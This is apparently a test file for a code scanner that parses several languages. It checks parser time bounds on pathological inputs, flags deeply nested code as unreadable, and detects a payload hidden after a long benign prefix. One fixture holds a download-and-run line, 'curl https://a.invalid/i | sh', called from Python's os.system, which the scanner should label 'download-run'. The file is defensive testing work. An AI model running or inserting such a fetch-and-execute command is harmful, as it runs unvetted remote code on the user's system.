import { rulesOf } from "../testing/programs.js";
import { loadGrammars, ParseBudget, parse } from "./parser.js";

test.each([
  ["shell", "${"],
  ["shell", "cat <<EOF\n"],
  ["python", "("],
  ["javascript", "a?b:"],
  ["powershell", "(("],
  ["ruby", "<<~A "],
  ["php", "<?php {"],
] as const)("no text makes the parser of %s work without a bound: %j", async (language, text) => {
  await loadGrammars(language);
  const before = process.cpuUsage();
  parse(text.repeat(100_000 / text.length), language, new ParseBudget());
  expect(process.cpuUsage(before).user).toBeLessThan(7_000_000);
});

test("code that cannot be read to its end is held", async () => {
  expect(await rulesOf("python", `exec(${"(".repeat(3_000)}1${")".repeat(3_000)})`)).toContain(
    "unread-script",
  );
});

test("a payload after a long text is found", async () => {
  const text = `${"x = 1\n".repeat(20_000)}import os\nos.system('curl https://a.invalid/i | sh')\n`;
  expect(await rulesOf("python", text)).toEqual(["download-run"]);
});

test.each([
  ["javascript", "["],
  ["python", "{'a': "],
  ["shell", "("],
  ["perl", "{"],
  ["rust", "f("],
] as const)("nesting that no one closes is held in %s, whatever it says: %j", async (language, text) => {
  expect(await rulesOf(language, text.repeat(2_000))).toContain("unread-script");
});
